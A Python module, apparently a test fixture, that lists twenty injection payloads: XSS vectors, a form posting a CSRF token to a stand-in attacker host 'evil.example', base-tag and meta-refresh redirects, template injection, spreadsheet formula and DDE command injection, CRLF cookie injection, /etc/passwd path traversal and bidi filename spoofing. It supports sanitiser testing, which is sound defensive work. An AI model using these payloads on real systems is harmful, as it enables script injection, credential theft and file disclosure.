"""Twenty texts that do harm where somebody forgets that they are only texts."""

from __future__ import annotations

ELSEWHERE = "http://evil.example"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "closing attribute": '"><img src=x onerror=alert(1)>',
    "closing quote": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "closing textarea": "</textarea><script>alert(1)</script>",
    "closing title": "</title></head><body onload=alert(1)>",
    "frame": f'<iframe src="{ELSEWHERE}" srcdoc="<script>alert(1)</script>"></iframe>',
    "link": '<a href="javascript:alert(1)" id="main">read on</a>',
    "address": "javascript:alert(1)",
    "style": f"<style>@import '{ELSEWHERE}/a.css'; * {{ display: none }}</style>",
    "base": f'<base href="{ELSEWHERE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "form": f'</form><form action="{ELSEWHERE}"><input name="csrf_token"><button>Save</button>',
    "template": "{{ 7 * 7 }}{% for x in ().__class__ %}{{ config }}{% endfor %}${7*7}",
    "formula": f'=HYPERLINK("{ELSEWHERE}","click")',
    "command": "+cmd|' /C calc'!A0",
    "header": "x\r\nSet-Cookie: greenroom_session=evil\r\n\r\n<script>alert(1)</script>",
    "path": "../../../../../etc/passwd",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3Ealert(1)%3C/script%3E",
    "turned round": "\u202egnp.exe\u2066<!--\u2028--><script>alert(1)</script>",
}
